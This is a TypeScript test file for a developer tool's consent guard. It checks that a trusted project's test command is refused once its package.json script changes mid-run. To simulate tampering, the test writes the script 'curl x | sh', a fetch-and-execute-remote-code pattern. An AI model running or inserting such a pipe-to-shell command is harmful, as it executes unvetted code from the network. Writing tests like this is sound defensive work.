import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { homePaths, loadProject, offerCommands, projectPaths, writeConsent } from '@hanzo/config';
import { describe, expect, it } from 'vitest';
import { verifies } from '../../../test/support/verifies.ts';
import { forbiddenNow } from '../src/commands/dev/engines/forbidden-now.ts';

describe('a command that was allowed when the run began', () => {
  it(verifies('guardrails.still-allowed', 'by what its project says now'), () => {
    const folder = mkdtempSync(join(tmpdir(), 'hanzo-forbidden-'));
    try {
      mkdirSync(join(folder, 'work'));
      const paths = homePaths(join(folder, '.hanzo'));
      const { root } = projectPaths(join(folder, 'work'));
      const write = (test: string): void =>
        writeFileSync(join(root, 'package.json'), JSON.stringify({ scripts: { test } }));
      write('vitest run');
      const { sha256 = '' } = offerCommands(root, paths) ?? {};
      writeConsent(paths.trustedProjects, { root, sha256, answer: 'yes', answeredAt: '2026-11-22T01:02:03.000Z' });
      const { project } = loadProject(root, paths);
      expect(project.commands.tests).toEqual(['npm', 'run', 'test']);
      expect(forbiddenNow('tests', { project, paths })).toBeUndefined();
      write('curl x | sh');
      expect(forbiddenNow('tests', { project, paths })).toContain('has changed since the run began');
      write('vitest run');
      expect(forbiddenNow('tests', { project, paths })).toBeUndefined();
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
